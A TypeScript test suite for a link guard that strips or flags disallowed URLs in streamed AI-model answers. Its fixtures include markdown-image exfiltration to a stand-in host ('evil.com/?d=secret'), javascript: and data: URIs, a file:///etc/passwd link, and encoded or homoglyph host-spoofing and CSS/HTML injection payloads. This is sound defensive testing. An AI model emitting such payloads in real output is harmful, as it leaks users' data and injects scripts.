import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { admit } from "../../src/admit.js";
import { AnswerFilter } from "../../src/answer/answer-filter.js";
import { type GuardLinksOptions, guardLinks } from "../../src/guards/guard-links.js";
import { filterWhole } from "../../src/redact/whole.js";
import type { Caller, Notice, TextFilter } from "../../src/types.js";

const caller: Caller = { id: "1", subject: "me", signal: new AbortController().signal };
const allow = ["good.com", "*.sub.org"];

function filterOf(options: GuardLinksOptions = { allow }): TextFilter {
  const verdict = guardLinks(options).check({ stage: "call", params: { messages: [] } }, caller);
  if (!("allowed" in verdict) || !verdict.allowed) throw new Error("denied");
  const filter = verdict.filter?.();
  if (filter === undefined) throw new Error("no filter");
  return filter;
}

const shown = (text: string, options?: GuardLinksOptions) => filterWhole(filterOf(options), text);

describe("told to flag", () => {
  it("lets all links stay, and tells of those that may not once the answer has ended", async () => {
    const events: unknown[] = [];
    const options = { guards: [guardLinks({ allow, action: "flag" })], monitor: false };
    const admission = await admit({ stage: "call", params: { messages: [] } }, caller, {
      ...options,
      emit: (_, event) => void events.push(event),
    });
    const texts = [
      "[a](https://evil.com/?q=1) https://good.com ![b](https://evil.com)",
      "www.evil.com",
      "none",
    ];
    for (const text of texts) {
      const filter = admission.filter();
      expect([...text].map((char) => filter.push(char)).join("") + filter.end()).toBe(text);
    }
    await admission.settle({ state: "finished", streamed: 1 });
    expect(events.filter((event) => (event as { type: string }).type !== "allowed")).toEqual([
      expect.objectContaining({ type: "completed" }),
      {
        type: "flagged",
        stage: "call",
        guard: "guardLinks",
        code: "OUTPUT_BLOCKED",
        signals: { LINK: 2, IMAGE: 1 },
      },
    ]);
  });

  it("tells of nothing where all links may stay", async () => {
    const notices: Notice[] = [];
    const verdict = await guardLinks({ allow, action: "flag" }).check(
      { stage: "call", params: { messages: [] } },
      caller,
      (notice) => notices.push(notice),
    );
    if (!verdict.allowed) throw new Error("denied");
    const filter = verdict.filter?.();
    expect(`${filter?.push("https://good.com")}${filter?.end()}`).toBe("https://good.com");
    verdict.settle?.({ state: "finished", streamed: 1 });
    expect(notices).toEqual([]);
  });
});

describe("stays", () => {
  it.each([
    "[a](https://good.com/x?y=1#z) ![b](https://good.com/i.png 'title')",
    "[a](https://x.sub.org) [b](//good.com/x) [c](HTTPS://GOOD.COM:8443/) [d](<https://good.com/a b>)",
    "See https://good.com, (https://good.com/a_(b)) and https://good.com.",
    "https://good.com/?u=https://evil.com and http://good.com./x",
    "**https://good.com** 'https://good.com' \"https://good.com\" 参照：https://good.com。",
    "[https://good.com](https://good.com) <https://good.com/x>",
    "[a](/path) [b](#part) [c](?q=1) [d](x.html) [e]() [f](two words here)",
    '[1]: https://good.com/x "title"\n[note]: something else',
    '<a href="https://good.com">x</a> <img src=/a.png srcset="/a.png 1x, https://good.com/b.png 2x">',
    "const a = list[0](b); d[e]: string; let x = { 'a': b }; f<T>(a); i <n; std::vector<foo::bar>",
    'url = "postgres://localhost/db"; src = `file.txt`; data = "a:b"; href',
    "https:// is how it begins, www too. WWW. http://",
    "AT&amp;T &lt;b&gt; &copy; &#38; a & b &",
    "[me](https://good.com)[you](https://x.sub.org)",
    "<https:good.com> <https://> |https://good.com|https://good.com/x| [1] (note: see below)",
    "[a](https://good.com/me@x) [b](https://good.com), me@x.com",
    "about:blank [a](about:blank) (link removed)",
    "evil.com node.js main.rs user@evil.com",
    "Awww. So cute! Awww... Ewww.",
  ])("%s", (text) => expect(shown(text)).toBe(text));
});

describe("goes", () => {
  it.each<[string, string]>([
    [
      "<https:evil.com> <http:/evil.com> <FTP:evil.com?q>",
      "<(link removed)> <(link removed)> <(link removed)>",
    ],
    ["[a](www.evil.com/x [b]: www.evil.com", "[a](about:blank [b]: about:blank"],
    ["![a] (//evil.com/x) [b]\t(javascript:x)", "![a] (about:blank) [b]\t(about:blank)"],
    ["_www.evil.com_ [a]: b<javascript:x>", "_(link removed)_ [a]: about:blank"],
    ["https://good.com]@evil.com/x https://good.com|@evil.com", "(link removed) (link removed)"],
    [
      "![](//good.com>@evil.com) ![](http:good.com]@evil.com)",
      "![](//good.com>/@evil.com) ![](http:good.com]/@evil.com)",
    ],
    ["https://good.com](x:/)@evil.com/", "https://good.com](about:blank)/@evil.com/"],
    ["![](http:good.com\\e@evil.com)", "![](about:blank)"],
    ["](www.]@evil.com", "](www.]/@evil.com"],
    ["](https://good.com)@evil.com/x", "](https://good.com)/@evil.com/x"],
    ["[a](http:good.com/http://evil.com", "[a](about:blank"],
    [
      '<p style=url(&quot;//evil.com)><p style="a:url(&quot//evil.com)">',
      '<p style=url(about:blank)><p style="a:url(about:blank)">',
    ],
    ["![x](https://evil.com/?d=secret)", "![x](about:blank)"],
    ['[a](https://evil.com "title") b', '[a](about:blank "title") b'],
    [
      "[a](//evil.com/x) [b](\\\\evil.com) [c](/\\evil.com)",
      "[a](about:blank) [b](about:blank) [c](about:blank)",
    ],
    ["[a](https:evil.com) [b](http:/evil.com)", "[a](about:blank) [b](about:blank)"],
    ["[a](https://good.com@evil.com) [b](https://good.com:x@evil.com/)", "[a](about:blank) [b](about:blank)"],
    ["[a](https://good.com.evil.com) [b](https://evilgood.com)", "[a](about:blank) [b](about:blank)"],
    ["[a](https://sub.org) [b](https://good.com\\.evil.com)", "[a](about:blank) [b](about:blank)"],
    ["[a](https://%65vil.com) [b](https://evil%2ecom)", "[a](about:blank) [b](about:blank)"],
    ["[a](https://gооd.com) [b](https://xn--gd-jbba.com)", "[a](about:blank) [b](about:blank)"],
    ["[a](javascript:alert(1)) [b](JaVaScRiPt:x)", "[a](about:blank)) [b](about:blank)"],
    [
      "[a](java\tscript:x) [b](\u0001javascript:x) [c](\u00a0javascript:x)",
      "[a](about:blank) [b](about:blank) [c](\u00a0about:blank)",
    ],
    [
      "[a](javascript&colon;x) [b](&#106;avascript:x) [c](&#x6A;avascript&#58;x)",
      "[a](about:blank) [b](about:blank) [c](about:blank)",
    ],
    [
      "![a](data:image/png;base64,AAAA) [b](vbscript:x) [c](file:///etc/passwd)",
      "![a](about:blank) [b](about:blank) [c](about:blank)",
    ],
    [
      "[a](&#47;&#47;evil.com) [b](&sol;&sol;evil.com) [c](\\/\\/evil.com)",
      "[a](about:blank) [b](about:blank) [c](about:blank)",
    ],
    [
      "[a](https://good.com&#46;evil.com) [b](https://good.com&period;evil.com)",
      "[a](about:blank) [b](about:blank)",
    ],
    ["[a](https://evil.com&sol;x.sub.org)", "[a](about:blank)"],
    [
      "[a](https://good.com\n.evil.com) [b](https://good.com\t.evil.com)",
      "[a](about:blank) [b](about:blank)",
    ],
    ["[a](\n  https://evil.com\n)", "[a](\n  about:blank)"],
    ["[a](<https://evil.com/a b> 't')", "[a](<about:blank> 't')"],
    [
      "[a](https://good.com\\).evil.com) [b](https://good.com().evil.com)",
      "[a](about:blank) [b](about:blank).evil.com)",
    ],
    ["[a](mailto:x@good.com) [b](slack://x)", "[a](about:blank) [b](about:blank)"],
    ["[![x](//evil.com/i)](https://good.com)", "[![x](about:blank)](https://good.com)"],
    ["[a](x ![b](//evil.com))", "[a](x ![b](about:blank))"],
    ["[a](https://good.com/](//evil.com))", "[a](https://good.com/](about:blank))"],
    [
      "![x][1]\n\n[1]: //evil.com/i\n[2]:\n  <//evil.com>",
      "![x][1]\n\n[1]: about:blank\n[2]:\n  <about:blank>",
    ],
    ["at https://evil.com/x?y=z, or", "at (link removed), or"],
    [
      "(https://evil.com/x). <https://evil.com> **https://evil.com**",
      "((link removed)). <(link removed)> **(link removed)**",
    ],
    ["Ends with https://evil.com/x.", "Ends with (link removed)."],
    ["https://evil.com", "(link removed)"],
    [
      "https&#58;//evil.com https&colon;//evil.com &#104;ttps://evil.com &#x68;ttps://evil.com/x",
      "(link removed) (link removed) (link removed) (link removed)",
    ],
    ["https\\://evil.com http:\\/\\/evil.com", "(link removed) (link removed)"],
    ["www.evil.com/x WWW.evil.com", "(link removed) (link removed)"],
    ["xwww.evil.com/?q=1 a.bwww.evil.com", "x(link removed) a.b(link removed)"],
    ["<a href=ahttp://evil.com data=bftp://evil.com", "<a href=about:blank data=about:blank"],
    ["[a](xwww.evil.com [b](x/ywww.evil.com)", "[a](about:blank [b](about:blank)"],
    ["https://[::1]/x [a](https://[::1]/x)", "(link removed)[::1]/x [a](about:blank]/x)"],
    ["ftp://evil.com/ HTTP://EVIL.COM", "(link removed) (link removed)"],
    [
      "https://good.com@evil.com https://good.com.evil.com/a https://good.com\\@evil.com",
      "(link removed) (link removed) (link removed)",
    ],
    ['https://good.com".evil.com https://good.com),evil.com', "(link removed) (link removed)"],
    [
      "https://good.com/x;https://evil.com https://good.com/(https://evil.com/)",
      "https://good.com/x;(link removed) https://good.com/((link removed))",
    ],
    [
      '<img src="https://evil.com/x"> <img src=//evil.com/x>',
      '<img src="about:blank"> <img src=about:blank>',
    ],
    ["<IMG\nALT='>' SRC\n=\n'//evil.com'>", "<IMG\nALT='>' SRC\n=\n'about:blank'>"],
    [
      '<img/src="//evil.com"> <img alt=""src=\\\\evil.com>',
      '<img/src="about:blank"> <img alt=""src=about:blank>',
    ],
    [
      '<img src="&#47;&#47;evil.com" srcset="/a 1x, //evil.com/b 2x">',
      '<img src="about:blank" srcset="about:blank">',
    ],
    [
      "<a href='java\nscript:x'> <a href=\"javascript&colon;x\"> <form action=//evil.com>",
      "<a href='about:blank'> <a href=\"about:blank\"> <form action=about:blank>",
    ],
    [
      '<iframe srcdoc="<b>x</b>"> <svg><image xlink:href="//evil.com">',
      '<iframe srcdoc="about:blank"> <svg><image xlink:href="about:blank">',
    ],
    [
      "<p style=\"background:url(//evil.com/x)\"> url('//evil.com') &#117;rl(//evil.com)",
      "<p style=\"background:url(about:blank)\"> url('about:blank') url(about:blank)",
    ],
    ["@import '//evil.com/x.css';", "@import 'about:blank';"],
    [
      '<meta http-equiv="refresh" content="0;url=//evil.com">',
      '<meta http-equiv="refresh" content="0;url=about:blank>',
    ],
    ['src="see https://evil.com/x" [a](x:y"https://evil.com)', 'src="about:blank" [a](about:blank)'],
    ['[a src="b](//evil.com)" [a]: b](//evil.com)', '[a src="about:blank" [a]: about:blank'],
    [
      "<img/[a](x/src=//evil.com> <img/https://good.com/src=//evil.com>",
      "<img/[a](about:blank> <img/https://good.com/src=about:blank>",
    ],
    [
      '<img alt="x src="a src=//evil.com"> <img alt="x src="src=//evil.com">',
      '<img alt="x src="about:blank"> <img alt="x src="about:blank">',
    ],
    ["[a](x-https://evil.com/secret) url(a//https://evil.com)", "[a](about:blank) url(about:blank)"],
    ["<javascript:alert(1)> <vbscript:x>", "<(link removed)(1)> <(link removed)>"],
  ])("%s", (text, left) => expect(shown(text)).toBe(left));

  it("whatever is longer than what is held back, and nothing of it", () => {
    const long = `https://good.com/${"x".repeat(3000)}`;
    expect(shown(`[a](${long}) b`)).toBe("[a](about:blank) b");
    expect(shown(`<img src="${long}"> b`)).toBe('<img src="about:blank"> b');
    expect(shown(`[a](${"\t".repeat(3000)}//evil.com) b`)).toContain("(\t");
    expect(shown(`[a](/${"\t".repeat(3000)}/evil.com) b`)).toBe("[a](about:blank) b");
    expect(shown(`https://${"a".repeat(3000)}.good.com/x b`)).toBe("(link removed) b");
    // In plain text it is known by its host.
    expect(shown(`${long} b`)).toBe(`${long} b`);
  });
});

describe("images", () => {
  const options = { allow: ["links.com"], images: ["images.com"] };
  it.each([
    ["![x](https://links.com) [x](https://images.com)", "![x](about:blank) [x](about:blank)"],
    ["![x](https://images.com) [x](https://links.com)", "![x](https://images.com) [x](https://links.com)"],
    ["[![x](https://images.com)](https://links.com)", "[![x](https://images.com)](https://links.com)"],
    ["![a [b](https://links.com)", "![a [b](about:blank)"],
    ["![a\\[b](https://links.com) x](https://images.com)", "![a\\[b](about:blank) x](https://images.com)"],
    [
      "<img src=https://links.com> <a href=https://links.com>",
      "<img src=about:blank> <a href=https://links.com>",
    ],
    ["[1]: https://links.com", "[1]: about:blank"],
    ["https://links.com https://images.com", "https://links.com (link removed)"],
  ])("have a list of their own: %s", (text, left) => expect(shown(text, options)).toBe(left));
});

it("lets links of other kinds stay if they are allowed", () => {
  expect(shown("[a](mailto:x@y.com) [b](tel:1)", { allow: ["mailto:"] })).toBe(
    "[a](mailto:x@y.com) [b](about:blank)",
  );
});

const parts = [
  "![",
  "[",
  "]",
  "(",
  ")",
  "<",
  ">",
  ":",
  "/",
  "//",
  "\\",
  '"',
  "'",
  "=",
  " ",
  "\n",
  "\t",
  ".",
  ",",
  "&",
  ";",
  "#",
  "@",
  "`",
  "*",
  "https://",
  "http:",
  "www.",
  "evil.com",
  "good.com",
  "src",
  "href",
  "url",
  "srcset",
  "@import",
  "javascript:",
  "data:",
  "&#58;",
  "&#x2f;",
  "&colon;",
  "&sol;",
  "&#104;",
  "text",
  "é",
  "。",
  "?q=",
  "a".repeat(2050),
];
const hostile = fc.array(fc.constantFrom(...parts), { maxLength: 25 }).map((list) => list.join(""));

describe("for any text", () => {
  it("the pieces that it comes in make no difference", () => {
    const sizes = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 7 });
    fc.assert(
      fc.property(hostile, sizes, (text, cuts) => {
        const filter = filterOf();
        let out = "";
        for (let at = 0, n = 0; at < text.length; n++) {
          const size = text.length > 4000 ? 97 : (cuts[n % cuts.length] ?? 1);
          out += filter.push(text.slice(at, at + size));
          at += size;
        }
        expect(out + filter.end()).toBe(shown(text));
      }),
      { numRuns: 3000 },
    );
  });

  it("no target of what is left leads elsewhere", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        for (const target of targets(shown(text))) {
          const { protocol, hostname } = new URL(target, "https://self.invalid/");
          expect([protocol, hostname]).toEqual([
            expect.stringMatching(/^(?:https?|about|ftp):$/),
            expect.stringMatching(/^(?:good\.com\.?|(?:.*\.)?sub\.org\.?|self\.invalid|[.]*)$/),
          ]);
        }
      }),
      { numRuns: 3000 },
    );
  });

  it("doing it twice is doing it once", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const once = shown(text);
        expect(shown(once)).toBe(once);
      }),
      { numRuns: 2000 },
    );
  });
});

/** Targets as simple renderers find them, by other means than the code under test. */
function targets(text: string): string[] {
  const found = [
    ...text.matchAll(/\]\(\s*<?([^\s<>()[\]]+)[^()]*\)/g),
    ...text.matchAll(/(?:src|href)\s*=\s*"([^"\s]+)"/gi),
    ...text.matchAll(/((?:https?|ftp):\/\/[^\s<>()[\]{}"'`,;*\\|]+)/gi),
  ];
  return found
    .map(([, target = ""]) => target.replace(/[.:!?~_]+$/, ""))
    .filter((target) => URL.canParse(target, "https://self.invalid/"));
}

it("holds back nothing but targets and beginnings", () => {
  const filter = filterOf();
  expect(filter.push("Plain words, [a link](")).toBe("Plain words, [a link](");
  expect(filter.push("https://good.com/x")).toBe("");
  expect(filter.push(") and ht")).toBe("https://good.com/x) and ");
  expect(filter.push("e site https://good.com")).toBe("hte site ");
  expect(filter.push("/path")).toBe("https://good.com/path");
  expect(filter.push("/more and more")).toBe("/more and more");
});

it("takes linear time for hostile text", () => {
  for (const part of [
    "![",
    "](",
    "[a](",
    "http",
    "https://",
    "src=",
    'src="',
    "&",
    "&#",
    "\\",
    "www.",
    "<javascript",
    "www.a]",
    "]: ",
    " ",
    "!",
  ]) {
    const text = part.repeat(Math.ceil(60_000 / part.length));
    const filter = filterOf();
    let length = 0;
    for (let at = 0; at < text.length; at += 1000) length += filter.push(text.slice(at, at + 1000)).length;
    expect(length + filter.end().length).toBeGreaterThan(0);
  }
});

it("leaves the input of tools and the door alone, and counts what it took out", async () => {
  const events: unknown[] = [];
  const admission = await admit({ stage: "call", params: { messages: [] } }, caller, {
    guards: [guardLinks({ allow })],
    monitor: false,
    emit: (_, event) => void events.push(event),
  });
  const answer = new AnswerFilter((part) => admission.filter(part));
  const url = "https://evil.com/x";
  expect(
    answer.message({
      content: [
        { type: "text", text: `![a](${url}) [b](${url})` },
        { type: "tool_use", input: { url } },
      ],
    }).content,
  ).toEqual([
    { type: "text", text: "![a](about:blank) [b](about:blank)" },
    { type: "tool_use", input: { url } },
  ]);
  await admission.settle({ state: "finished", streamed: 0 });
  expect(events).toContainEqual({ type: "redacted", stage: "call", entities: { IMAGE: 1, LINK: 1 } });
  const door = guardLinks({ allow }).check({ stage: "door", params: { messages: [] } }, caller);
  expect(door).toEqual({ allowed: true });
});

it("ends the answer where it is to block", () => {
  const filter = filterOf({ allow, action: "block" });
  expect(filter.push("fine [a](https://good.com) ")).toBe("fine [a](https://good.com) ");
  expect(() => filter.push("![a](https://evil.com) ")).toThrow(
    expect.objectContaining({ code: "OUTPUT_BLOCKED" }),
  );
});

it.each<[object, RegExp]>([
  [{}, /guardLinks: "allow" must be a list of hosts/],
  [{ allow: "good.com" }, /"allow" must be a list of hosts/],
  [{ allow: ["https://good.com"] }, /"allow.0" must be a host/],
  [{ allow: ["good.com/x"] }, /"allow.0" must be a host/],
  [{ allow: ["good.com:80"] }, /"allow.0" must be a host/],
  [{ allow: ["a@good.com"] }, /"allow.0" must be a host/],
  [{ allow: ["*"] }, /"allow.0" must be a host/],
  [{ allow: ["javascript:"] }, /"allow.0" must be a host/],
  [{ allow: [""] }, /"allow.0" must be a host/],
  [{ allow: ["[::1]"] }, /"allow.0" must be a host/],
  [{ allow: [], images: [7] }, /"images.0" must be a host/],
  [{ allow: [], action: "drop" }, /"action" must be "replace", "block" or "flag"/],
])("refuses the options %j", (options, says) => {
  expect(() => guardLinks(options as GuardLinksOptions)).toThrow(TypeError);
  expect(() => guardLinks(options as GuardLinksOptions)).toThrow(says);
});

it("knows hosts in any spelling", () => {
  const text = "[a](https://müller.de) [c](https://GOOD.com)";
  expect(shown(text, { allow: ["Müller.de", "Good.com"] })).toBe(text);
});
